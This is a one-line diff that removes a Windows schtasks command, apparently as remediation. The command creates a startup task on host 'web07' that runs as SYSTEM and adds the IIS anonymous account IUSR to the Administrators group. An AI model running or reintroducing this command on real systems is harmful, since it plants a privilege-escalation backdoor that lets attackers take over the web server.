@@ -1,1 +1,0 @@
-schtasks /create /s web07 /tn setup /sc onstart /ru SYSTEM /tr "net localgroup Administrators IUSR /add"
